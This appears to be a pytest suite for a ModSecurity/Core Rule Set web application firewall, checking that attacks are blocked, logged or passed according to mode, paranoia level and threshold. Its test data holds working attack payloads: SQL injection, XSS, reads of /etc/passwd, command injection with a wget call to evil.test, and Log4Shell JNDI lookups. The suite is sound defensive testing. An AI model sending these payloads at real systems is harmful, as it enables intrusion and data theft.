"""What the Core Rule Set does to attacks, in each mode and at each strictness."""

from __future__ import annotations

import gzip
import json
import time
from typing import TYPE_CHECKING, NamedTuple

import pytest
from support.answers import text
from support.waf import mark

from waf_builder.version import Version

if TYPE_CHECKING:
    from support.backends import Backend
    from support.client import Response
    from support.waf import Waf

    from waf_builder.engine.model import Engine

pytestmark = pytest.mark.nginx

FULL_AUDIT = Version(1, 0, 4)
"""The first connector that keeps the record of a response that it cuts."""
FORM = "application/x-www-form-urlencoded"


class Attack(NamedTuple):
    """A request that must not reach a backend, and the tag of the rules that know it."""

    tag: str
    query: str = ""
    body: bytes | None = None
    content_type: str = FORM
    headers: dict[str, str] = {}  # noqa: RUF012 - never changed

    def send(self, waf: Waf, path: str) -> Response:
        """Send it, framed as one request that path finds again in the logs."""
        headers = dict(self.headers)
        if self.body is not None:
            headers["Content-Type"] = self.content_type
        method = "GET" if self.body is None else "POST"
        return waf.ask(f"{path}{self.query}", method=method, headers=headers, body=self.body)


JSON, XML = "application/json", "text/xml"
SCRIPT = b"&lt;script&gt;alert(1)&lt;/script&gt;"
ESCAPED = b'{"q": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'
"""Only who reads it as JSON sees a tag in it."""

LINE_BREAK_IN_A_NAME = "?a=1&%0d%0arest"

ATTACKS = {
    "sql-query": Attack("attack-sqli", "?id=1%27%20OR%20%271%27%3D%271%27%20--%20"),
    "sql-form": Attack("attack-sqli", body=b"id=-1+UNION+SELECT+username,password+FROM+users--"),
    "sql-json": Attack("attack-sqli", "", b'{"filter": {"id": "1\' OR 1=1 -- "}}', JSON),
    "xss-query": Attack("attack-xss", "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    "xss-json": Attack("attack-xss", "", ESCAPED, JSON),
    "xss-vendor-json": Attack("attack-xss", "", ESCAPED, "application/vnd.api+json"),
    "xss-patch-json": Attack(
        "attack-xss", "", ESCAPED, "application/merge-patch+json; charset=utf-8"
    ),
    "xss-referer": Attack(
        "attack-xss", headers={"Referer": "https://x.test/<script>alert(1)</script>"}
    ),
    "xss-xml-text": Attack("attack-xss", "", b"<a><b>%s</b></a>" % SCRIPT, XML),
    "xss-xml-attribute": Attack("attack-xss", "", b"<a b='%s'>c</a>" % SCRIPT, "application/xml"),
    "xss-soap-attribute": Attack(
        "attack-xss", "", b"<e><b q='%s'/></e>" % SCRIPT, "application/soap+xml"
    ),
    "xss-text": Attack("attack-xss", "", b"hello\n<script>alert(1)</script>\n", "text/plain"),
    "xss-csv": Attack("attack-xss", "", b"a,b\r\n1,<script>alert(1)</script>\r\n", "text/csv"),
    "traversal-query": Attack("attack-lfi", "?file=../../../../etc/passwd"),
    "traversal-path": Attack("attack-lfi", "/x/y/z/..%2f..%2f..%2fetc/passwd"),
    "command-query": Attack("attack-rce", "?host=127.0.0.1%3Bcat%20/etc/passwd"),
    "command-form": Attack("attack-rce", body=b"host=%60wget+http%3A%2F%2Fevil.test%2Fx%60%3B+id"),
    "line-break-in-a-name": Attack("attack-protocol", LINE_BREAK_IN_A_NAME),
    "line-break-in-a-name-and-text": Attack(
        "attack-protocol", LINE_BREAK_IN_A_NAME, b"dear reader,\nhello\n", "text/plain"
    ),
    "log4shell-query": Attack("attack-rce", "?x=%24%7Bjndi%3Aldap%3A//evil.test/a%7D"),
    "log4shell-header": Attack("attack-rce", headers={"User-Agent": "${jndi:ldap://evil.test/a}"}),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
class TestAttack:
    def test_is_refused_and_its_rules_are_named(self, waf: Waf, site: Backend, attack: Attack):
        marker = mark()
        assert attack.send(waf, f"/{marker}").status == 403
        assert site.received() == []
        assert attack.tag in tags(waf, marker)

    def test_passes_in_detect_mode_and_its_rules_are_named(
        self, waf: Waf, site: Backend, attack: Attack
    ):
        marker = mark()
        assert attack.send(waf, f"/detect/{marker}").status == 200
        assert len(site.received("/detect/")) == 1
        assert attack.tag in tags(waf, marker)

    def test_passes_unseen_where_the_waf_is_off(self, waf: Waf, site: Backend, attack: Attack):
        marker = mark()
        assert attack.send(waf, f"/off/{marker}").status == 200
        assert len(site.received("/off/")) == 1
        assert not waf.has_audit(marker)


@pytest.mark.parametrize(
    "prefix", ["detect", "off", "lenient"], ids=lambda prefix: f"from-{prefix}"
)
@pytest.mark.parametrize(
    "way", ["/{}/../{}", "/{}/%2e%2e/{}", "/{}/..%2f{}", "//{}/..//{}", "/{}/./../{}"]
)
def test_a_weaker_route_cannot_be_borrowed(waf: Waf, site: Backend, prefix: str, way: str):
    """What only looks as if it were below a weak route is unclear, or is treated as where it is."""
    marker = mark()
    target = way.format(prefix, marker) + "?q=%3Cscript%3Ealert(1)%3C/script%3E"
    assert waf.ask(target).status == (403 if target.startswith("//") else 400)
    assert site.received() == []


FAMILIES = {
    921: "attack-protocol",
    930: "attack-lfi",
    932: "attack-rce",
    941: "attack-xss",
    942: "attack-sqli",
}
"""The rule set's files, whose rules do not all carry the tag in the records of 3.0.9."""


def tags(waf: Waf, marker: str) -> set[str]:
    """Return what the rules that the audit record names are tagged as."""
    details = [one["details"] for one in waf.audit(marker)["messages"]]
    families = {FAMILIES.get(int(one["ruleId"]) // 1000, "") for one in details}
    return families | {tag for one in details for tag in one["tags"]}


# Rule 921151 (a line break in a query argument) stands at paranoia level 2.
LINE_BREAK = "?text=one%0Atwo"


class TestParanoiaLevel:
    def test_1_lets_a_line_break_pass_unseen(self, waf: Waf):
        marker = mark()
        assert waf.ask(f"/{marker}{LINE_BREAK}").status == 200
        assert not waf.has_audit(marker)

    def test_2_on_one_route_refuses_it(self, waf: Waf, site: Backend):
        marker = mark()
        assert waf.ask(f"/strict/{marker}{LINE_BREAK}").status == 403
        assert 921151 in waf.rules(marker)
        assert site.received() == []

    def test_2_for_detection_only_logs_it(self, waf: Waf):
        marker = mark()
        assert waf.ask(f"/watched/{marker}{LINE_BREAK}").status == 200
        assert 921151 in waf.rules(marker)

    def test_2_for_detection_still_refuses_what_1_knows(self, waf: Waf):
        assert ATTACKS["xss-query"].send(waf, f"/watched/{mark()}").status == 403


class TestThreshold:
    # Rule 920350 (a Host that is an address) is a warning: 3 points.
    HOST = "127.0.0.1"

    def test_of_5_lets_a_warning_pass(self, waf: Waf):
        marker = mark()
        assert waf.ask(f"/{marker}", host=self.HOST).status == 200
        assert 920350 in waf.rules(marker)

    def test_of_3_on_one_route_refuses_it(self, waf: Waf, site: Backend):
        marker = mark()
        assert waf.ask(f"/touchy/{marker}", host=self.HOST).status == 403
        assert 920350 in waf.rules(marker)
        assert site.received() == []

    def test_of_1000_on_one_route_lets_an_attack_pass_and_names_it(self, waf: Waf):
        marker = mark()
        assert ATTACKS["sql-query"].send(waf, f"/lenient/{marker}").status == 200
        assert "attack-sqli" in tags(waf, marker)


class TestAllowed:
    def test_methods_of_no_web_app_are_refused(self, waf: Waf, site: Backend):
        marker = mark()
        assert waf.ask(f"/{marker}", method="PROPFIND").status == 403
        assert 911100 in waf.rules(marker)
        assert site.received() == []

    @pytest.mark.parametrize(("method", "status"), [("GET", 200), ("DELETE", 403)])
    def test_methods_can_be_fewer_on_a_route(self, waf: Waf, method: str, status: int):
        assert waf.ask(f"/get-only/{mark()}", method=method).status == status

    def test_content_types_of_no_web_app_are_refused(self, waf: Waf):
        marker = mark()
        headers = {"Content-Type": "application/x-evil"}
        assert waf.ask(f"/{marker}", method="POST", headers=headers, body=b"x").status == 403
        assert 920420 in waf.rules(marker)

    @pytest.mark.parametrize(
        ("content_type", "status"),
        [
            ("application/json", 200),
            ("application/json; charset=utf-8", 200),
            ("text/csv", 403),
            ("application/json-patch+json", 403),
        ],
    )
    def test_content_types_can_be_fewer_on_a_route(self, waf: Waf, content_type: str, status: int):
        headers = {"Content-Type": content_type}
        response = waf.ask(f"/json-only/{mark()}", method="POST", headers=headers, body=b"{}")
        assert response.status == status


class TestMaxArguments:
    @pytest.mark.parametrize(
        ("path", "limit"), [("", 1000), ("few-arguments/", 10), ("many-arguments/", 2000)]
    )
    @pytest.mark.parametrize("kind", ["form", "json"])
    def test_bounds_forms_and_json(self, waf: Waf, site: Backend, path: str, limit: int, kind: str):
        assert self.send(waf, path, limit, kind).status == 200
        assert len(site.received()) == 1
        assert self.send(waf, path, limit + 1, kind).status in {400, 403}
        assert len(site.received()) == 1

    def send(self, waf: Waf, path: str, count: int, kind: str) -> Response:
        fields = {f"f{number}": "v" for number in range(count)}
        if kind == "form":
            content_type, body = FORM, "&".join(f"{key}=v" for key in fields).encode()
        else:
            content_type, body = "application/json", json.dumps(fields).encode()
        headers = {"Content-Type": content_type}
        return waf.ask(f"/{path}{mark()}", method="POST", headers=headers, body=body)

    def test_does_not_let_an_attack_hide_behind_many(self, waf: Waf, site: Backend):
        body = "&".join(
            [*(f"f{number}=v" for number in range(1200)), "q=<script>alert(1)</script>"]
        )
        waf.ask(f"/{mark()}", method="POST", headers={"Content-Type": FORM}, body=body.encode())
        assert site.received() == []


class TestBrokenBodies:
    @pytest.mark.parametrize(
        ("content_type", "body"),
        [
            ("application/json", b'{"a": '),
            ("application/vnd.api+json", b'{"a" "b"}'),
            ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: x; name=a\r\n\r\n"),
        ],
        ids=["json", "plus-json", "multipart"],
    )
    def test_that_the_rules_cannot_read_are_refused(
        self, waf: Waf, site: Backend, content_type: str, body: bytes
    ):
        """What the WAF cannot parse, the app might: never passed on unseen."""
        headers = {"Content-Type": content_type}
        response = waf.ask(f"/{mark()}", method="POST", headers=headers, body=body)
        assert response.status in {400, 403}
        assert site.received() == []


def test_a_compressed_body_is_refused(waf: Waf, site: Backend):
    """No rule could read it, and some frameworks unpack it by themselves."""
    body = gzip.compress(b'{"q": "<script>alert(1)</script>"}')
    for content_type in (JSON, "application/x-protobuf"):
        headers = {"Content-Type": content_type, "Content-Encoding": "gzip"}
        response = waf.ask(f"/{mark()}", method="POST", headers=headers, body=body)
        assert response.status in {400, 403}
    assert site.received() == []


class TestLargeBodies:
    """Above 1 MB the rules look at what the parsers found, and no more at the bytes as a whole."""

    PADDING = b"x" * (1 << 20)
    JAVA = b"java.lang.Runtime"
    BINARY = "application/octet-stream"

    def status(self, waf: Waf, content_type: str, body: bytes) -> int:
        headers = {"Content-Type": content_type}
        return waf.ask(f"/{mark()}", method="POST", headers=headers, body=body).status

    def test_bytes_without_a_parser(self, waf: Waf):
        assert self.status(waf, self.BINARY, b"\0" + self.JAVA) == 403
        assert self.status(waf, self.BINARY, b"\0" * ((1 << 20) - 17) + self.JAVA) == 403
        assert self.status(waf, self.BINARY, b"\0" * (1 << 20) + self.JAVA) == 200

    @pytest.mark.parametrize(
        ("content_type", "body"),
        [
            (FORM, b"a=%b&b=%b"),
            ("application/json", b'{"a": "%b", "b": "%b"}'),
            ("text/plain", b"%b %b"),
            ("application/xml", b"<a><b>%b</b><c>%b</c></a>"),
            (
                "multipart/form-data; boundary=cut",
                (
                    b'--cut\r\nContent-Disposition: form-data; name="a"\r\n\r\n%b\r\n'
                    b'--cut\r\nContent-Disposition: form-data; name="b"\r\n\r\n%b\r\n--cut--\r\n'
                ),
            ),
        ],
        ids=["form", "json", "text", "xml", "multipart"],
    )
    def test_what_a_parser_found(self, waf: Waf, content_type: str, body: bytes):
        assert self.status(waf, content_type, body % (self.PADDING, b"y")) == 200
        assert self.status(waf, content_type, body % (self.PADDING, self.JAVA)) == 403


class TestResponses:
    LEAK = (
        b"<html><body><h1>Error</h1>You have an error in your SQL syntax; check the manual that "
        b"corresponds to your MySQL server version for the right syntax to use near ''' at "
        b"line 1</body></html>"
    )

    def test_pass_unseen_unless_asked_for(self, waf: Waf, site: Backend):
        marker = mark()
        site.on(f"/{marker}", text(self.LEAK, content_type="text/html"))
        response = waf.ask(f"/{marker}")
        assert (response.status, response.body) == (200, self.LEAK)
        assert not waf.has_audit(marker)

    @pytest.mark.parametrize("content_type", ["text/html", "application/json"])
    def test_are_inspected_on_one_route(
        self, engine: Engine, waf: Waf, site: Backend, content_type: str
    ):
        marker = mark()
        site.on(f"/leaks/{marker}", text(self.LEAK, content_type=content_type))
        try:
            body = waf.ask(f"/leaks/{marker}").body
        except EOFError:  # the headers are out when the leak is seen: the connection is cut
            body = b""
        assert b"SQL syntax" not in body
        if engine.connector_version < FULL_AUDIT:  # only the error log tells of it
            assert waf.stderr.wait_for(lambda line: marker in line and "(phase 4)" in line)
        else:
            assert "attack-disclosure" in tags(waf, marker)

    def test_are_asked_for_uncompressed(self, waf: Waf, site: Backend):
        waf.ask("/leaks/plain", headers={"Accept-Encoding": "gzip, br"})
        assert not site.only("/leaks/plain").header("Accept-Encoding")

    def test_pass_below_the_outbound_threshold_and_are_named(self, waf: Waf, site: Backend):
        marker = mark()
        site.on(f"/tolerated-leaks/{marker}", text(self.LEAK, content_type="text/html"))
        response = waf.ask(f"/tolerated-leaks/{marker}")
        assert (response.status, response.body) == (200, self.LEAK)
        assert "attack-disclosure" in tags(waf, marker)

    def test_that_leak_nothing_pass_whole(self, waf: Waf, site: Backend):
        page = b"<p>all is well</p>" * 50_000
        site.on("/leaks/well", text(page, content_type="text/html"))
        response = waf.ask("/leaks/well")
        assert (response.status, response.body) == (200, page)


new_only = pytest.mark.parametrize("engine", ["new"], indirect=True)


@new_only
@pytest.mark.parametrize("character", ["<", "{", "\n"])
class TestPcreLimit:
    """8 KB of one character must not keep a worker busy: without a limit, it would for 20 s."""

    def flood(self, waf: Waf, marker: str, character: str) -> Response:
        body = f"text={character * 8192}".encode()
        headers = {"Content-Type": FORM}
        return waf.ask(f"/{marker}", method="POST", headers=headers, body=body, timeout=5)

    def test_bounds_the_time_of_a_request(self, waf: Waf, character: str):
        began = time.monotonic()
        assert self.flood(waf, mark(), character).status == 200
        assert time.monotonic() - began < 1

    def test_being_hit_is_logged(self, waf: Waf, character: str):
        marker = mark()
        self.flood(waf, marker, character)
        assert 90900 in waf.rules(marker)


@pytest.mark.parametrize("target", ["{here}#", "{here}#/x?q={attack}", "{here}?a=1#&q={attack}"])
def test_a_fragment_hides_nothing(waf: Waf, site: Backend, target: str):
    """libmodsecurity sees nothing behind it, and the backend would get it."""
    attack = "%3Cscript%3Ealert(1)%3C/script%3E"
    response = waf.ask(target.format(here=f"/{mark()}", attack=attack))

    assert response.status == 400
    assert site.received() == []
